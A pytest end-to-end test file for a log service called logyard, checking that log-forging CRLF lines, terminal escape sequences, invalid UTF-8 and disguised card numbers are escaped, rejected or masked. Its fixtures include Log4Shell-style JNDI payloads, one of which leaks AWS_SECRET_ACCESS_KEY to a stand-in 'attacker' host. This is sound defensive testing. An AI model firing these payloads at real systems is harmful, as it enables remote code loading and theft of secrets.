"""Hostile input through the API, the store and ``logyard search``: escaped or rejected, never
evaluated, and the service stays up (issue 4, item 6).

One logyard API server (``logyard.api.create_app``, masking on as in every embedded runtime)
runs in a thread on a free loopback port for the module; each test keeps its events apart by
a ``host.name`` of its own and asserts ``/api/v1/health`` at the end. ``logyard search`` runs
in process (``logyard.cli._main.main``) against that server, so its text and ``--json`` output
are the real thing.
"""

from __future__ import annotations

import json
import re
import time
import unicodedata
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
from tests.e2e._serve import serve

from logyard.cli._main import main as logyard_main
from logyard.security.mask import luhn_ok

TOKEN = "adversarial-admin-token"

# Luhn-valid card numbers of two issuers (checked by test_test_pans_are_luhn_valid).
VISA = "4276380012345679"
MASTERCARD = "5469380012345673"

# A forged log line: what CWE-117 injection tries to append.
FORGED = "\r\n2026-11-26 05:29:26.000  mes           INFO   user.logged_in     admin  ok"


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """An httpx client (admin token) on logyard's API, served by uvicorn on loopback."""
    from logyard.api import create_app

    app = create_app(tmp_path_factory.mktemp("adversarial") / "data", admin_token=TOKEN)
    with serve(app, TOKEN) as client:
        yield client


@pytest.fixture
def tag() -> str:
    """A ``host.name`` unique to the test."""
    return f"adv{uuid.uuid4().hex[:10]}"


def _ts() -> str:
    return (datetime.now(UTC) - timedelta(seconds=5)).isoformat().replace("+00:00", "Z")


# A system that emits each action used here (the API refuses an event from another).
SYSTEM = {"site.entered": "internet-shop", "order.created": "crm"}


def _event(action: str, tag: str, **fields: Any) -> dict[str, Any]:
    system = SYSTEM.get(action, "mes")
    doc = {"@timestamp": _ts(), "event.action": action, "service.name": system, "host.name": tag}
    return doc | fields


def _ingest(api: httpx.Client, events: list[dict[str, Any]]) -> None:
    answer = api.post("/api/v1/events", json=events)
    assert answer.status_code == 200, answer.text
    assert answer.json()["accepted"] == len(events), answer.text


def _search(api: httpx.Client, query: str, n: int, timeout_secs: float = 10.0) -> list[Any]:
    """The hits of ``query``, polled until there are ``n`` (ingest is near-real-time)."""
    deadline = time.monotonic() + timeout_secs
    while True:
        answer = api.get("/api/v1/search", params={"q": query, "size": 100})
        assert answer.status_code == 200, answer.text
        hits: list[Any] = answer.json()["hits"]
        if len(hits) >= n or time.monotonic() > deadline:
            assert len(hits) == n, f"{query!r}: {len(hits)} hits, not {n}"
            return hits
        time.sleep(0.05)


def _assert_up(api: httpx.Client) -> None:
    answer = api.get("/api/v1/health")
    assert answer.status_code == 200
    assert answer.json()["status"] == "ok"


def _cli_search(
    api: httpx.Client, query: str, capsys: pytest.CaptureFixture[str], *flags: str
) -> str:
    """What ``logyard search [flags] QUERY`` prints on stdout."""
    capsys.readouterr()
    code = logyard_main(["search", "--url", str(api.base_url), "--token", TOKEN, *flags, query])
    assert code == 0
    return capsys.readouterr().out


# ---------------------------------------------------------------------------------- tests


def test_test_pans_are_luhn_valid() -> None:
    """The card numbers the masking tests hide are real PANs (Luhn-valid), so a miss counts."""
    assert [luhn_ok(VISA), luhn_ok(MASTERCARD)] == [True, True]


def test_crlf_and_nul_are_stored_as_sent_and_escaped_on_one_cli_line(
    api: httpx.Client, tag: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """CWE-117: CR/LF with a forged line and NUL in message and user.name are stored and
    returned as the same JSON strings; ``logyard search`` prints the event on one line with
    ``\\x0d\\x0a`` and ``\\x00`` visible, and ``--json`` parses back to the same strings."""
    message = f"payment failed{FORGED}\x00tail"
    user = "ivanova\r\nroot\x00"
    _ingest(api, [_event("log.record", tag, message=message, **{"user.name": user})])

    [hit] = _search(api, f"host.name:{tag}", 1)
    assert [hit["message"], hit["user.name"]] == [message, user]

    text = _cli_search(api, f"host.name:{tag}", capsys)
    assert text.count("\n") == 1
    assert not set(text[:-1]) & {"\r", "\n", "\x00"}
    assert "payment failed\\x0d\\x0a2026-11-26 05:29:26.000" in text
    assert "\\x00tail" in text
    assert "ivanova\\x0d\\x0aroot\\x00" in text

    lines = _cli_search(api, f"host.name:{tag}", capsys, "--json").split("\n")
    assert lines[1:] == [""]
    assert json.loads(lines[0]) == hit
    assert "\\r\\n" in lines[0]
    assert "\\u0000" in lines[0]
    _assert_up(api)


def test_ansi_and_osc_escapes_never_reach_the_terminal(
    api: httpx.Client, tag: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """ANSI colour/cursor (CSI) and OSC title sequences in any field come out of
    ``logyard search`` as ``\\x1b…`` text, never as ESC/BEL/C1 bytes; ``--json`` keeps them as
    JSON escapes (``\\u001b``) that parse back to the stored strings."""
    red = "\x1b[31mALERT\x1b[0m\x1b[2J\x1b[H"
    title = "\x1b]0;pwned\x07\x1b]8;;http://attacker/\x1b\\link\x1b]8;;\x1b\\"
    c1 = "\x9b31m\x9d0;c1\x9c"
    error = {"error.type": title, "error.message": c1 + red}
    _ingest(
        api,
        [
            _event("error", tag, message=title, **{"user.name": c1 + red}, **error),
            _event("error", tag, **error),  # no message: the summary shows the error fields
        ],
    )
    hits = _search(api, f"host.name:{tag}", 2)
    for hit in hits:
        assert [hit["error.type"], hit["error.message"]] == [title, c1 + red]

    text = _cli_search(api, f"host.name:{tag}", capsys)
    assert re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", text) is None
    assert len(text.splitlines()) == 2
    assert "\\x9b31m\\x9d0;c1\\x9c\\x1b[31mALERT\\x1b[0m" in text
    assert "\\x1b]0;pwned\\x07\\x1b]8;;http://attacker/\\x1b\\link" in text
    assert '"\\u001b]0;pwned\\u0007' in text  # the summary JSON-encodes error.type

    lines = _cli_search(api, f"host.name:{tag}", capsys, "--json").splitlines()
    assert re.search(r"[\x00-\x1f]", "".join(lines)) is None
    assert "\\u001b[31mALERT" in lines[0]
    assert [json.loads(line) for line in lines] == hits
    _assert_up(api)


def test_json_output_escapes_c1_controls(
    api: httpx.Client, tag: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """``logyard search --json`` writes no C1 control character (8-bit CSI/OSC) raw: each
    is a JSON escape, so the line still parses back to the stored string."""
    c1 = "\x9b31mred\x9d0;title\x9c"
    _ingest(api, [_event("log.record", tag, message=c1)])
    [hit] = _search(api, f"host.name:{tag}", 1)

    line = _cli_search(api, f"host.name:{tag}", capsys, "--json")
    assert re.search(r"[\x80-\x9f]", line) is None
    assert json.loads(line) == hit
    _assert_up(api)


def test_line_and_paragraph_separators_round_trip_and_are_escaped_in_text(
    api: httpx.Client, tag: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """U+2028/U+2029 in message and user.name round-trip unchanged through the JSON API and
    ``--json``; the text output shows them as ``\\u2028``/``\\u2029`` on one line."""
    message = "before\u2028forged line\u2029after"
    user = "ivanova\u2028admin"
    _ingest(api, [_event("log.record", tag, message=message, **{"user.name": user})])

    [hit] = _search(api, f"host.name:{tag}", 1)
    assert [hit["message"], hit["user.name"]] == [message, user]

    text = _cli_search(api, f"host.name:{tag}", capsys)
    assert len(text.splitlines()) == 1
    assert "before\\u2028forged line\\u2029after" in text
    assert "ivanova\\u2028admin" in text

    [line] = _cli_search(api, f"host.name:{tag}", capsys, "--json").split("\n")[:-1]
    assert json.loads(line) == hit
    _assert_up(api)


JNDI = [
    "${jndi:ldap://attacker/a}",
    "${${lower:j}ndi:${lower:l}dap://attacker/b}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker/c}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker/d}",
    "${env:HOME}",
    "${sys:user.name}",
]


@pytest.mark.parametrize("payload", JNDI)
def test_jndi_lookups_are_stored_verbatim_and_found_literally(
    api: httpx.Client, tag: str, payload: str
) -> None:
    """A Log4Shell-style lookup in every string field of an event (message, user.name,
    user.id, url.full, referrer, labels) is stored as sent — nothing interpolates it — and a
    quoted KQL phrase finds it literally in each of those fields."""
    fields = ["message", "user.name", "user.id", "url.full", "http.request.referrer"]
    sent = _event(
        "site.entered",
        tag,
        **dict.fromkeys(fields, payload),
        **{"client.ip": "10.1.2.3", "labels": {"note": payload}},
    )
    _ingest(api, [sent])

    [hit] = _search(api, f"host.name:{tag}", 1)
    assert {k: hit[k] for k in fields} == dict.fromkeys(fields, payload)
    assert hit["labels"]["note"] == payload
    phrase = json.dumps(payload)
    for field in [*fields, "labels.note"]:
        [found] = _search(api, f"host.name:{tag} and {field}:{phrase}", 1)
        assert found == hit
    _assert_up(api)


def test_invalid_utf8_line_is_rejected_alone(api: httpx.Client, tag: str) -> None:
    """In one NDJSON body, lines with invalid UTF-8 (stray byte, overlong encoding, encoded
    surrogate, truncated sequence) are each rejected as ``invalid_utf8``; the valid lines
    between them are stored."""
    bad_bytes = [b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xe2\x82"]
    good = [_event("log.record", tag, message=f"good {n}") for n in range(len(bad_bytes) + 1)]
    lines = [json.dumps(good[0]).encode()]
    for n, raw in enumerate(bad_bytes, start=1):
        shell = json.dumps(_event("log.record", tag, message="@@")).encode()
        lines += [shell.replace(b"@@", b"bad " + raw + b" end"), json.dumps(good[n]).encode()]
    answer = api.post(
        "/api/v1/events",
        content=b"\n".join(lines),
        headers={"Content-Type": "application/x-ndjson"},
    )
    assert answer.status_code == 200
    codes = [item.get("code", item["status"]) for item in answer.json()["items"]]
    assert codes == ["accepted", *["invalid_utf8", "accepted"] * len(bad_bytes)]

    hits = _search(api, f"host.name:{tag}", len(good))
    assert sorted(h["message"] for h in hits) == [f"good {n}" for n in range(len(good))]
    _assert_up(api)


# --------------------------------------------------------------------- disguised card numbers


def _fold(text: str) -> str:
    """The digits a reader would see in ``text``: URL-decoded twice, every Unicode decimal
    digit as ASCII, everything that is not a digit (separators, zero-width) removed."""
    text = unquote(unquote(text))
    return "".join(str(unicodedata.decimal(ch)) for ch in text if ch.isdecimal())


def _strings(value: Any) -> Iterator[str]:
    """Every string (keys too) in a JSON value, and the value's JSON text as a whole."""
    if isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)
    elif isinstance(value, str):
        yield value
    else:
        yield json.dumps(value)


def _fullwidth(digits: str) -> str:
    return "".join(chr(0xFF10 + int(d)) for d in digits)


def _grouped(digits: str, sep: str) -> str:
    return sep.join(digits[i : i + 4] for i in range(0, len(digits), 4))


DISGUISES: dict[str, tuple[str, dict[str, Any]]] = {
    "full-width digits": ("log.record", {"message": f"card {_fullwidth(VISA)} declined"}),
    "full-width with ideographic spaces": (
        "log.record",
        {"message": "card " + _grouped(_fullwidth(MASTERCARD), "\u3000")},
    ),
    "zero-width spaces between digits": (
        "log.record",
        {"message": "card " + "\u200b".join(MASTERCARD), "user.name": "\u200b".join(VISA)},
    ),
    "zero-width joiners and soft hyphens": (
        "log.record",
        {"message": "card " + "\u200d\u00ad".join(VISA)},
    ),
    "non-breaking hyphens and en dashes": (
        "log.record",
        {"message": f"card {VISA[:4]}\u2011{VISA[4:8]}\u2013{VISA[8:12]}\u2011{VISA[12:]}"},
    ),
    "PAN in a URL query string": (
        "site.entered",
        {"url.full": f"https://shop/pay?card={VISA}&cvc=123", "client.ip": "10.1.2.3"},
    ),
    "URL-encoded PAN with %20": (
        "site.entered",
        {"url.full": f"https://shop/pay?card={_grouped(VISA, '%20')}", "client.ip": "10.1.2.3"},
    ),
    "double URL-encoded PAN": (
        "site.entered",
        {
            "url.full": f"https://shop/pay?card={_grouped(MASTERCARD, '%2520')}",
            "client.ip": "10.1.2.3",
        },
    ),
    "JSON inside a string field": ("log.record", {"message": json.dumps({"card": VISA})}),
    "JSON inside a string inside a dict field": (
        "order.created",
        {
            "user.name": "ivanova",
            "order.id": "ORD-PAN-1",
            "order.params": {"payload": json.dumps({"card": {"pan": MASTERCARD}})},
        },
    ),
}


@pytest.mark.parametrize("disguise", list(DISGUISES))
def test_disguised_card_number_never_reaches_a_search_hit(
    api: httpx.Client, tag: str, disguise: str
) -> None:
    """A Luhn-valid PAN hidden by full-width digits, zero-width characters, a URL query string,
    URL encoding or JSON nested in a string is masked before storage: once each hit's strings
    are URL-decoded, digit-normalised and stripped of separators, no PAN appears in any."""
    action, fields = DISGUISES[disguise]
    _ingest(api, [_event(action, tag, **fields)])

    [hit] = _search(api, f"host.name:{tag}", 1)
    leaked = [s for s in _strings(hit) for pan in (VISA, MASTERCARD) if pan in _fold(s)]
    assert leaked == []
    assert "pan" in hit["labels"]["masked"].split(",")
    _assert_up(api)
